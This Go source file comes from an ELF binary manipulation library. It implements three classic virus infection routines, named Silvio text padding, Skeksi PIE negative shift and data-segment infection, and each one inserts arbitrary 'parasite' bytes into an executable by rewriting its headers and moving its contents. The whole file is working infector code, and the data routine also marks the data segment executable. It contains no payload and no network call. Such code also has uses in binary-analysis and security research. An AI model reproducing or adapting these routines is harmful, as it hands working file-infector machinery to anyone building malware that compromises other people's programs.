package elf

// infect.go is C10, the infectors: prescripted compositions of the move
// engine (C6) and space allocator (C5) that graft parasite bytes into an
// executable without disturbing its existing contents. Grounded on
// original_source/src/infect.c's silvio_infect/skeksi_infect/
// data_infect, translated from raw pointer/offset arithmetic into the
// typed view's offset-based accessors.

// InfectSilvio implements spec.md §4.9's "Silvio (text padding)": pad the
// R|X LOAD's tail with up to one page of parasite code and report where it
// landed.
func (v *View) InfectSilvio(parasite []byte) (uint64, error) {
	const op = "infect.InfectSilvio"
	if len(parasite) == 0 || uint64(len(parasite)) > PageSize {
		return 0, errOf(KindArgs, op)
	}

	textIdx := -1
	for i, p := range v.Phdrs {
		if p.Type == PT_LOAD && p.Flags&PF_R != 0 && p.Flags&PF_X != 0 {
			textIdx = i
			break
		}
	}
	if textIdx < 0 {
		return 0, errOf(KindSegmentNotFound, op)
	}
	text := v.Phdrs[textIdx]
	parasiteAddr := text.Vaddr + text.Memsz
	parasiteOffset := text.Offset + text.Filesz

	size := uint64(len(parasite))
	text.Filesz += size
	text.Memsz += size
	if err := v.writePhdr(textIdx, text); err != nil {
		return 0, wrapErr(KindMemory, op, err)
	}

	for i, p := range v.Phdrs {
		if i == textIdx {
			continue
		}
		if p.Offset > text.Offset {
			p.Offset += PageSize
			if err := v.writePhdr(i, p); err != nil {
				return 0, wrapErr(KindMemory, op, err)
			}
		}
	}

	tailSecIdx := -1
	for i, s := range v.Shdrs {
		if s.Type != SHT_NOBITS && s.Offset < parasiteOffset && parasiteOffset <= s.Offset+s.Size {
			tailSecIdx = i
		}
	}

	buf := v.Image.Bytes()
	if err := v.Image.Resize(len(buf) + PageSize); err != nil {
		return 0, wrapErr(KindMemory, op, err)
	}
	buf = v.Image.Bytes()

	// Move the section header table first (it normally lies past every
	// section), then the sections in descending-offset order, so no copy
	// lands on bytes that are still to be moved.
	shtSize := uint64(v.Ehdr.Shnum) * uint64(v.Ehdr.Shentsize)
	if err := copyWithinImage(buf, v.Ehdr.Shoff, v.Ehdr.Shoff+PageSize, shtSize); err != nil {
		return 0, wrapErr(KindMove, op, err)
	}
	v.Ehdr.Shoff += PageSize
	if err := v.writeEhdr(); err != nil {
		return 0, wrapErr(KindMemory, op, err)
	}

	for _, r := range v.SectionsByOffset(false) {
		i, s := r.Index, v.Shdrs[r.Index]
		if s.Type == SHT_NOBITS {
			continue
		}
		if s.Offset > parasiteOffset {
			if err := copyWithinImage(buf, s.Offset, s.Offset+PageSize, s.Size); err != nil {
				return 0, wrapErr(KindMove, op, err)
			}
			s.Offset += PageSize
			if err := v.writeShdr(i, s); err != nil {
				return 0, wrapErr(KindMemory, op, err)
			}
		} else if i == tailSecIdx {
			s.Size += size
			if err := v.writeShdr(i, s); err != nil {
				return 0, wrapErr(KindMemory, op, err)
			}
		}
	}

	copy(buf[parasiteOffset:], parasite)
	for i := parasiteOffset + size; i < parasiteOffset+PageSize; i++ {
		buf[i] = 0
	}

	if err := v.rederive(); err != nil {
		return 0, err
	}
	return parasiteAddr, nil
}

// InfectSkeksi implements spec.md §4.9's "Skeksi (PIE negative shift)":
// shift the text LOAD down by one page and insert a page of parasite at
// the old text start.
func (v *View) InfectSkeksi(parasite []byte) error {
	const op = "infect.InfectSkeksi"
	if uint64(len(parasite)) > PageSize {
		return errOf(KindArgs, op)
	}

	textIdx := -1
	var vend uint64
	for i, p := range v.Phdrs {
		if p.Type != PT_LOAD {
			continue
		}
		if end := p.Vaddr + p.Memsz; end > vend {
			vend = end
		}
		if p.Flags&PF_R != 0 && p.Flags&PF_X != 0 && textIdx < 0 {
			textIdx = i
		}
	}
	if textIdx < 0 {
		return errOf(KindSegmentNotFound, op)
	}
	vendPage := ceilPage(vend)

	text := v.Phdrs[textIdx]
	oldOffset, oldVaddr, oldSize := text.Offset, text.Vaddr, text.Filesz
	text.Memsz += PageSize
	text.Vaddr -= PageSize
	text.Paddr -= PageSize
	text.Filesz += PageSize
	if err := v.writePhdr(textIdx, text); err != nil {
		return wrapErr(KindMemory, op, err)
	}

	for i, p := range v.Phdrs {
		if i == textIdx {
			continue
		}
		if p.Vaddr < oldVaddr {
			p.Vaddr += vendPage
			p.Paddr += vendPage
		}
		if p.Offset > oldOffset {
			p.Offset += PageSize
		}
		if err := v.writePhdr(i, p); err != nil {
			return wrapErr(KindMemory, op, err)
		}
	}

	for i, s := range v.Shdrs {
		if s.Addr == oldVaddr {
			s.Addr -= PageSize
			s.Size += PageSize
		} else if s.Addr != 0 && s.Addr < oldVaddr {
			s.Addr += vendPage
		}
		if s.Type != SHT_NOBITS && s.Offset >= oldOffset+oldSize {
			s.Offset += PageSize
		}
		if err := v.writeShdr(i, s); err != nil {
			return wrapErr(KindMemory, op, err)
		}
	}

	v.Ehdr.Shoff += PageSize
	if err := v.writeEhdr(); err != nil {
		return wrapErr(KindMemory, op, err)
	}

	skeksiTags := []int64{DT_STRTAB, DT_SYMTAB, DT_RELA, DT_REL, DT_JMPREL, DT_VERNEED, DT_VERSYM}
	for _, d := range v.Dynamic {
		for _, t := range skeksiTags {
			if d.Tag == t {
				d.Val += vendPage
				if idx := v.dynIndexOf(d.Tag); idx >= 0 {
					if err := v.writeDyn(idx, d); err != nil {
						return wrapErr(KindMemory, op, err)
					}
				}
			}
		}
	}

	buf := v.Image.Bytes()
	if err := v.Image.Resize(len(buf) + PageSize); err != nil {
		return wrapErr(KindMemory, op, err)
	}
	buf = v.Image.Bytes()
	if err := copyWithinImage(buf, oldOffset, oldOffset+PageSize, uint64(len(buf))-PageSize-oldOffset); err != nil {
		return wrapErr(KindMove, op, err)
	}
	copy(buf[oldOffset:], parasite)
	for i := oldOffset + uint64(len(parasite)); i < oldOffset+PageSize; i++ {
		buf[i] = 0
	}

	return v.rederive()
}

func (v *View) dynIndexOf(tag int64) int {
	for i, d := range v.Dynamic {
		if d.Tag == tag {
			return i
		}
	}
	return -1
}

// InfectData implements spec.md §4.9's "Data infection": extend the last
// PT_LOAD (the one whose end equals the image's highest virtual address)
// by len(parasite), mark it executable, grow its tail section, and insert
// the parasite bytes.
func (v *View) InfectData(parasite []byte) error {
	const op = "infect.InfectData"
	if len(parasite) == 0 {
		return errOf(KindArgs, op)
	}

	lastIdx, vend := -1, uint64(0)
	for i, p := range v.Phdrs {
		if p.Type != PT_LOAD {
			continue
		}
		if end := p.Vaddr + p.Memsz; end >= vend {
			vend = end
			lastIdx = i
		}
	}
	if lastIdx < 0 {
		return errOf(KindSegmentNotFound, op)
	}

	size := uint64(len(parasite))
	last := v.Phdrs[lastIdx]
	insertionOffset := last.Offset + last.Filesz
	last.Filesz += size
	last.Memsz += size
	last.Flags |= PF_X
	if err := v.writePhdr(lastIdx, last); err != nil {
		return wrapErr(KindMemory, op, err)
	}

	tailSecIdx := -1
	for i, s := range v.Shdrs {
		if s.Type != SHT_NOBITS && s.Offset < insertionOffset && insertionOffset <= s.Offset+s.Size {
			tailSecIdx = i
		}
	}
	if tailSecIdx >= 0 {
		s := v.Shdrs[tailSecIdx]
		s.Size += size
		s.Flags |= SHF_EXECINSTR
		if err := v.writeShdr(tailSecIdx, s); err != nil {
			return wrapErr(KindMemory, op, err)
		}
	}

	buf := v.Image.Bytes()
	if err := v.Image.Resize(len(buf) + int(size)); err != nil {
		return wrapErr(KindMemory, op, err)
	}
	buf = v.Image.Bytes()

	// Same ordering as InfectSilvio: section header table first, then the
	// sections in descending-offset order.
	if v.Ehdr.Shoff >= insertionOffset {
		shtSize := uint64(v.Ehdr.Shnum) * uint64(v.Ehdr.Shentsize)
		if err := copyWithinImage(buf, v.Ehdr.Shoff, v.Ehdr.Shoff+size, shtSize); err != nil {
			return wrapErr(KindMove, op, err)
		}
		v.Ehdr.Shoff += size
		if err := v.writeEhdr(); err != nil {
			return wrapErr(KindMemory, op, err)
		}
	}
	for _, r := range v.SectionsByOffset(false) {
		i, s := r.Index, v.Shdrs[r.Index]
		if i == tailSecIdx || s.Type == SHT_NOBITS {
			continue
		}
		if s.Offset >= insertionOffset {
			if err := copyWithinImage(buf, s.Offset, s.Offset+size, s.Size); err != nil {
				return wrapErr(KindMove, op, err)
			}
			s.Offset += size
			if err := v.writeShdr(i, s); err != nil {
				return wrapErr(KindMemory, op, err)
			}
		}
	}

	copy(buf[insertionOffset:], parasite)
	return v.rederive()
}
